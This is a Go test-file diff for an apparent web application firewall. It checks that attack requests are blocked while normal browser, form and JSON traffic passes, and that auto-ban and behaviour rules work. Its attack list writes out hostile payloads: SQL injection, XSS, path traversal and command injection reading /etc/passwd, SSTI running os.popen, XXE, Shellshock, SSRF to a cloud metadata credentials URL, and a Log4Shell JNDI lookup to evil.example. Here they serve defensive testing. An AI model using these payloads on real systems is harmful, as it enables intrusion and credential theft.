@@ -1124,3 +1124,299 @@ routes:
 		},
 	}})
 }
+
+// ---------------------------------------------------------------------------
+// Detection (issue 3)
+
+// browserHeaders are what a current Chrome sends on a navigation.
+func browserHeaders(ip string) map[string]string {
+	return hdr(
+		"X-Forwarded-For", ip,
+		"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
+		"Accept-Language", "en-GB,en;q=0.9,de;q=0.8",
+		"Accept-Encoding", "gzip, deflate, br, zstd",
+		"Cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc-_def; theme=dark",
+		"Referer", "https://www.google.com/search?q=o%27reilly+go+books",
+		"Sec-Ch-Ua", `"Chromium";v="126", "Google Chrome";v="126", "Not-A.Brand";v="99"`,
+		"Sec-Fetch-Site", "cross-site",
+		"Upgrade-Insecure-Requests", "1",
+	)
+}
+
+func TestBlackboxDetection(t *testing.T) {
+	t.Parallel()
+	ip := func(n int) string { return fmt.Sprintf("198.51.100.%d", n) }
+	ct := func(n int, typ string) map[string]string { return hdr("X-Forwarded-For", ip(n), "Content-Type", typ) }
+	mpAttack := func() (string, string) {
+		var b bytes.Buffer
+		w := multipart.NewWriter(&b)
+		_ = w.WriteField("title", "report")
+		fw, _ := w.CreateFormFile("file", "../../../../etc/passwd")
+		_, _ = fw.Write([]byte("x"))
+		_ = w.Close()
+		return b.String(), w.FormDataContentType()
+	}
+	mpBody, mpType := mpAttack()
+	markdown := "# Release notes\n\nWe've fixed the *login* bug; see the _changelog_ and **upgrade** soon.\n\n- [docs](https://example.com/docs?page=2&sort=asc)\n- C:\\Users\\bob\\Documents\\report.docx\n\n> Don't forget: 5 < 7 and 7 > 5.\n"
+	attacks := []bbStep{
+		{name: "sqli in query", call: call{path: "/echo?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"}},
+		{name: "tautology in query", call: call{path: "/echo?user=admin%27%20OR%20%271%27=%271"}},
+		{name: "xss in query", call: call{path: "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
+		{name: "xss in query key", call: call{path: "/echo?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"}},
+		{name: "xss in second value of a key", call: call{path: "/echo?q=hello&q=%3Csvg%20onload%3Dalert(1)%3E"}},
+		{name: "path traversal in query", call: call{path: "/echo?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"}},
+		{name: "cmdi in query", call: call{path: "/echo?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"}},
+		{name: "double-encoded xss", call: call{path: "/echo?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"}},
+		{name: "attack in path segment", call: call{path: "/items/%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
+		{name: "sqli in path segment", call: call{path: "/items/1%20UNION%20SELECT%20password%20FROM%20users"}},
+		{name: "sqli in JSON body", call: call{method: "POST", path: "/echo", body: `{"q":"x'; DROP TABLE users; --"}`}, bytes: nil},
+		{name: "nosql operator in query key", call: call{path: "/echo?user=admin&password%5B%24ne%5D=1"}},
+		{name: "nosql $where in JSON body", call: call{method: "POST", path: "/echo", body: `{"$where":"sleep(5000)"}`}},
+		{name: "xss deep in JSON", call: call{method: "POST", path: "/echo", body: `{"a":{"b":[1,{"c":"<script>alert(document.cookie)</script>"}]}}`}},
+		{name: "xss in form body", call: call{method: "POST", path: "/echo", body: "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
+		{name: "ssti in form body", call: call{method: "POST", path: "/echo", body: "name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}},
+		{name: "xxe in XML body", call: call{method: "POST", path: "/echo", body: `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`}},
+		{name: "multipart file name traversal", call: call{method: "POST", path: "/echo", body: mpBody}},
+		{name: "shellshock in header", call: call{path: "/", header: hdr("X-Custom", "() { :; }; /bin/bash -c 'cat /etc/passwd'")}},
+		{name: "xss in Referer", call: call{path: "/", header: hdr("Referer", "https://example.com/?q=<script>alert(document.cookie)</script>")}},
+		{name: "sqli in cookie", call: call{path: "/", header: hdr("Cookie", "theme=dark; id=1' UNION SELECT password FROM users--")}},
+		{name: "xss in cookie", call: call{path: "/", header: hdr("Cookie", "pref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")}},
+		{name: "ssrf in query", call: call{path: "/echo?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"}},
+		{name: "log4shell in header", call: call{path: "/", header: hdr("X-Api-Version", "${jndi:ldap://evil.example/a}")}},
+		{name: "crlf injection in query", call: call{path: "/echo?next=%0d%0aSet-Cookie:%20admin=true"}},
+		{name: "proto pollution in JSON", call: call{method: "POST", path: "/echo", body: `{"__proto__":{"isAdmin":true}}`}},
+	}
+	types := map[string]string{
+		"sqli in JSON body": "application/json", "nosql $where in JSON body": "application/json", "xss deep in JSON": "application/json",
+		"xss in form body": "application/x-www-form-urlencoded", "ssti in form body": "application/x-www-form-urlencoded",
+		"xxe in XML body": "application/xml", "multipart file name traversal": mpType, "proto pollution in JSON": "application/json",
+	}
+	for i := range attacks {
+		h := hdr("X-Forwarded-For", ip(10+i))
+		if typ, ok := types[attacks[i].name]; ok {
+			h["Content-Type"] = typ
+		}
+		for k, v := range attacks[i].call.header {
+			h[k] = v
+		}
+		attacks[i].call.header = h
+		attacks[i].status = 403
+	}
+	clean := []bbStep{
+		{name: "browser GET with query", call: call{path: "/echo?q=O%27Reilly+books&sort=price&page=2&lang=en-GB&ref=nav", header: browserHeaders(ip(100))}, status: 200},
+		{name: "browser GET items", call: call{path: "/items/42", header: browserHeaders(ip(100))}, status: 200},
+		{name: "form with apostrophes", call: call{method: "POST", path: "/echo", body: "name=O%27Brien&comment=It%27s+a+great+day%2C+isn%27t+it%3F+I%27d+select+the+blue+one+%26+drop+by+later.", header: ct(101, "application/x-www-form-urlencoded")}, status: 200},
+		{name: "JSON API", call: call{method: "POST", path: "/echo", body: `{"title":"Meeting notes","body":"Let's update the select box; drop-down order: name, date.","tags":["a","b"],"count":3,"price":"$19.99","email":"bob@example.com"}`, header: ct(102, "application/json")}, status: 200},
+		{name: "markdown", call: call{method: "POST", path: "/echo", body: markdown, header: ct(103, "text/markdown")}, status: 200},
+		{name: "markdown as JSON value", call: call{method: "POST", path: "/echo", body: func() string { b, _ := json.Marshal(map[string]string{"content": markdown}); return string(b) }(), header: ct(104, "application/json")}, status: 200},
+		{name: "search for a code snippet", call: call{path: "/echo?q=how+to+use+%3Cdiv%3E+in+html&page=1", header: browserHeaders(ip(105))}, status: 200},
+		{name: "maths", call: call{path: "/echo?expr=x%C2%B2+%2B+y%C2%B2+%3D+r%C2%B2", header: xff(ip(106))}, status: 200},
+		{name: "login form", call: call{method: "POST", path: "/login", body: "username=bob&password=Tr0ub4dor%263&remember=on", header: ct(107, "application/x-www-form-urlencoded")}, status: 200},
+	}
+	var steps []bbStep
+	steps = append(steps, attacks...)
+	steps = append(steps, clean...)
+	runScenarios(t, []bbScenario{{
+		name:   "attacks blocked, clean traffic passes",
+		config: "trusted_proxies: [127.0.0.1]\nrate_limit: 1000\nauto_ban_threshold: 100\n",
+		steps:  steps,
+		stderr: []string{"penetration_attempt"},
+	}})
+}
+
+func TestBlackboxAutoBan(t *testing.T) {
+	t.Parallel()
+	attack := "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
+	runScenarios(t, []bbScenario{{
+		name: "auto-ban after the threshold",
+		config: `
+trusted_proxies: [127.0.0.1]
+auto_ban_threshold: 3
+auto_ban_duration: 60
+custom_error_responses: {403: "Blocked"}
+`,
+		steps: []bbStep{
+			{name: "attack 1", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
+			{name: "clean after 1", call: call{path: "/", header: xff("198.51.100.1")}, status: 200},
+			{name: "attack 2", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
+			{name: "attack 3", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
+			{name: "attack 4", call: call{path: attack, header: xff("198.51.100.1")}, status: 403},
+			{name: "banned: clean request", call: call{path: "/health", header: xff("198.51.100.1")}, status: 403, body: "Blocked"},
+			{name: "others unaffected", call: call{path: "/health", header: xff("198.51.100.2")}, status: 200},
+		},
+		stderr: []string{"ip_banned"},
+	}})
+}
+
+// ---------------------------------------------------------------------------
+// Behaviour (issue 6)
+
+func TestBlackboxBehaviour(t *testing.T) {
+	t.Parallel()
+	win := func(ip string) bbStep {
+		return bbStep{name: "win from " + ip, call: call{path: "/lottery?outcome=win", header: xff(ip)}, status: 200, body: `{"result":"win"}`}
+	}
+	lose := func(ip string) bbStep {
+		return bbStep{name: "lose from " + ip, call: call{path: "/lottery", header: xff(ip)}, status: 200, body: `{"result":"lose"}`}
+	}
+	after := func(ip string, status int) bbStep {
+		return bbStep{name: fmt.Sprintf("after, %s on another route", ip), call: call{path: "/health", header: xff(ip)}, status: status}
+	}
+	returnScenario := func(pattern string) bbScenario {
+		return bbScenario{
+			name: "return_monitor " + pattern,
+			config: fmt.Sprintf(`
+trusted_proxies: [127.0.0.1]
+routes:
+  - path: /lottery
+    return_monitor: {pattern: %q, max_occurrences: 2, window: 60, action: ban}
+`, pattern),
+			steps: []bbStep{
+				lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"),
+				after("198.51.100.2", 200),
+				win("198.51.100.1"), win("198.51.100.1"), win("198.51.100.1"),
+				after("198.51.100.1", 403),
+			},
+		}
+	}
+	echo := func(ip string, body string, status int) bbStep {
+		return bbStep{name: fmt.Sprintf("echo %d bytes from %s", len(body), ip), call: call{method: "POST", path: "/echo", body: body, header: hdr("X-Forwarded-For", ip, "Content-Type", "text/plain")}, status: status}
+	}
+	scenarios := []bbScenario{
+		returnScenario("win"),
+		returnScenario(`regex:"result":\s*"win"`),
+		returnScenario("json:result==win"),
+		returnScenario("json:result!=lose"),
+		{
+			name: "return_monitor status:200 counts every answer",
+			config: `
+trusted_proxies: [127.0.0.1]
+routes:
+  - path: /lottery
+    return_monitor: {pattern: "status:200", max_occurrences: 2, window: 60, action: ban}
+`,
+			steps: []bbStep{lose("198.51.100.1"), win("198.51.100.1"), lose("198.51.100.1"), after("198.51.100.1", 403)},
+		},
+		{
+			name: "return_monitor numeric JSON comparison",
+			config: `
+trusted_proxies: [127.0.0.1]
+routes:
+  - path: /echo
+    methods: [POST]
+    return_monitor: {pattern: "json:body_length>10", max_occurrences: 1, window: 60, action: ban}
+`,
+			steps: []bbStep{
+				echo("198.51.100.2", "short", 200), echo("198.51.100.2", "short", 200), echo("198.51.100.2", "short", 200),
+				after("198.51.100.2", 200),
+				echo("198.51.100.1", "a much longer body", 200), echo("198.51.100.1", "another long body", 200),
+				after("198.51.100.1", 403),
+			},
+		},
+		{
+			name: "usage_monitor actions",
+			config: `
+trusted_proxies: [127.0.0.1]
+routes:
+  - path: /items/{id}
+    usage_monitor: {max_calls: 2, window: 60, action: ban}
+  - path: /lottery
+    usage_monitor: {max_calls: 2, window: 1, action: throttle}
+  - path: /health
+    usage_monitor: {max_calls: 1, window: 60, action: alert}
+  - path: /echo
+    usage_monitor: {max_calls: 1, window: 60, action: log}
+`,
+			steps: []bbStep{
+				{name: "ban 1", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
+				{name: "ban 2", call: call{path: "/items/2", header: xff("198.51.100.1")}, status: 200},
+				{name: "ban 3 exceeds", call: call{path: "/items/3", header: xff("198.51.100.1")}, status: 403},
+				{name: "banned everywhere", call: call{path: "/", header: xff("198.51.100.1")}, status: 403},
+				{name: "throttle 1", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 200},
+				{name: "throttle 2", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 200},
+				{name: "throttle 3 exceeds", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 429},
+				{name: "throttle 4 still", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 429},
+				{name: "throttle is not a ban", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
+				{name: "alert 1", call: call{path: "/health", header: xff("198.51.100.3")}, status: 200},
+				{name: "alert 2", call: call{path: "/health", header: xff("198.51.100.3")}, status: 200},
+				{name: "alert 3", call: call{path: "/health", header: xff("198.51.100.3")}, status: 200},
+				{name: "log 1", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 200},
+				{name: "log 2", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 200},
+				{name: "log 3", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 200},
+				{name: "throttle over after the window", wait: 2200 * time.Millisecond, call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 200},
+			},
+			stderr: []string{`"level":"ERROR"`},
+		},
+		{
+			name: "suspicious_frequency throttle",
+			config: `
+trusted_proxies: [127.0.0.1]
+routes:
+  - path: /health
+    suspicious_frequency: {max_frequency: 1, window: 2, action: throttle}
+`,
+			steps: []bbStep{
+				{name: "1", call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
+				{name: "2", call: call{path: "/health", header: xff("198.51.100.1")}, status: 200},
+				{name: "3 over 1/s for 2 s", call: call{path: "/health", header: xff("198.51.100.1")}, status: 429},
+				{name: "other client", call: call{path: "/health", header: xff("198.51.100.2")}, status: 200},
+			},
+		},
+		{
+			name: "several rules on one route",
+			config: `
+trusted_proxies: [127.0.0.1]
+routes:
+  - path: /lottery
+    behavior_analysis:
+      - {rule_type: usage, threshold: 4, window: 60, action: ban}
+      - {rule_type: return_pattern, pattern: "json:result==win", threshold: 1, window: 60, action: throttle}
+`,
+			steps: []bbStep{
+				win("198.51.100.1"),
+				{name: "second win throttled", call: call{path: "/lottery?outcome=win", header: xff("198.51.100.1")}, status: 200},
+				{name: "throttled after the return rule fired", call: call{path: "/lottery", header: xff("198.51.100.1")}, status: 429},
+				lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"), lose("198.51.100.2"),
+				{name: "usage rule fires", call: call{path: "/lottery", header: xff("198.51.100.2")}, status: 403},
+				after("198.51.100.2", 403),
+			},
+		},
+		{
+			name: "global 404 rule",
+			config: `
+trusted_proxies: [127.0.0.1]
+global_behavior_rules:
+  - {rule_type: return_pattern, pattern: "status:404", threshold: 3, window: 60, action: ban}
+`,
+			steps: []bbStep{
+				{name: "404 1", call: call{path: "/admin", header: xff("198.51.100.1")}, status: 404, noKey: true},
+				{name: "404 2", call: call{path: "/wp-login", header: xff("198.51.100.1")}, status: 404, noKey: true},
+				{name: "404 3", call: call{path: "/backup", header: xff("198.51.100.1")}, status: 404, noKey: true},
+				{name: "404 4 exceeds", call: call{path: "/old", header: xff("198.51.100.1")}, below500: true, noKey: true},
+				after("198.51.100.1", 403),
+				after("198.51.100.2", 200),
+			},
+		},
+		{
+			name: "passive mode: rules fire, nothing blocked",
+			config: `
+trusted_proxies: [127.0.0.1]
+passive_mode: true
+routes:
+  - path: /items/{id}
+    usage_monitor: {max_calls: 1, window: 60, action: ban}
+  - path: /lottery
+    return_monitor: {pattern: "json:result==win", max_occurrences: 1, window: 60, action: throttle}
+`,
+			steps: []bbStep{
+				{name: "usage 1", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
+				{name: "usage 2", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
+				{name: "usage 3", call: call{path: "/items/1", header: xff("198.51.100.1")}, status: 200},
+				after("198.51.100.1", 200),
+				win("198.51.100.2"), win("198.51.100.2"), win("198.51.100.2"),
+			},
+		},
+	}
+	runScenarios(t, scenarios)
+}
